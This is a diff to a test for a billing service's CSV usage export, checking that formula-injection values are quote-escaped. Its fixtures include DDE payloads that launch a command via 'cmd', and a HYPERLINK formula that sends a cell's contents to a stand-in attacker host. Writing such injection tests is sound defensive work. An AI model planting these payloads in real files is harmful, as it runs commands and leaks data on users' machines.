@@ -58,16 +58,16 @@ describe('usage export as CSV', () => {
       unit: '+1+cmd|" /C calc"!A0',
       resourceId: '@SUM(1+1)*cmd|" /C calc"!A0',
       site: '-2+3',
-      appliesTo: '\t=1+1',
     };
     const events = [
       {
         specversion: '1.0', id: hostile.id, source: 'urn:example:nfs-agent', type: 'nfs.bytes_read', subject: tenant.tenantId, time,
-        data: { quantity: '42', unit: hostile.unit, resourceId: hostile.resourceId, site: hostile.site, appliesTo: hostile.appliesTo },
+        data: { quantity: '42', unit: hostile.unit, resourceId: hostile.resourceId, site: hostile.site },
       },
       {
         specversion: '1.0', id: 'plain-1', source: 'urn:example:nfs-agent', type: 'nfs.bytes_read', subject: tenant.tenantId, time,
-        data: { quantity: '7', unit: 'byte', resourceId: '\r=1+1', site: 'tokyo-office' },
+        // Ids and resource ids may hold no control characters; free-form data may: a tab or CR first.
+        data: { quantity: '7', unit: '\r=1+1', resourceId: 'plain-resource', site: '\t=1+1' },
       },
     ];
     expect((await gqlOk(t.url, billing, RECORD, { e: events })).recordUsage).toEqual({ accepted: 2, rejected: [] });
@@ -84,16 +84,15 @@ describe('usage export as CSV', () => {
       unit: `'${hostile.unit}`,
       resourceId: `'${hostile.resourceId}`,
       site: `'${hostile.site}`,
-      appliesTo: `'${hostile.appliesTo}`,
       quantity: '42',
       source: 'urn:example:nfs-agent',
     });
-    expect(byResource.get('\r=1+1')).toMatchObject({ id: 'plain-1', resourceId: "'\r=1+1", unit: 'byte', site: 'tokyo-office' });
+    expect(byResource.get('plain-resource')).toMatchObject({ id: 'plain-1', resourceId: 'plain-resource', unit: "'\r=1+1", site: "'\t=1+1" });
     // Each neutralised cell is quoted, the quote inside it: '"'=HYPERLINK(""…' on the wire.
     expect(csv.text).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")"`);
     expect(csv.text).toContain(`"'-2+3"`);
     // The data column is JSON: it starts with { and carries the values as recorded.
-    expect(JSON.parse(attack.data)).toMatchObject({ unit: hostile.unit, resourceId: hostile.resourceId, site: hostile.site, appliesTo: hostile.appliesTo });
+    expect(JSON.parse(attack.data)).toMatchObject({ unit: hostile.unit, resourceId: hostile.resourceId, site: hostile.site });
 
     const json = await request(t.url).get('/usage/export').query({ ...query, format: 'json' }).set('authorization', `Bearer ${billing}`).buffer(true).parse((res, cb) => {
       let body = '';
@@ -102,7 +101,7 @@ describe('usage export as CSV', () => {
     });
     const exported = (json.body as string).trim().split('\n').map((l) => JSON.parse(l));
     const recorded = exported.find((e) => e.id === hostile.id);
-    expect(recorded).toMatchObject({ id: hostile.id, data: { unit: hostile.unit, resourceId: hostile.resourceId, site: hostile.site, appliesTo: hostile.appliesTo } });
-    expect(exported.find((e) => e.id === 'plain-1').data.resourceId).toBe('\r=1+1');
+    expect(recorded).toMatchObject({ id: hostile.id, data: { unit: hostile.unit, resourceId: hostile.resourceId, site: hostile.site } });
+    expect(exported.find((e) => e.id === 'plain-1').data).toMatchObject({ unit: '\r=1+1', site: '\t=1+1' });
   });
 });
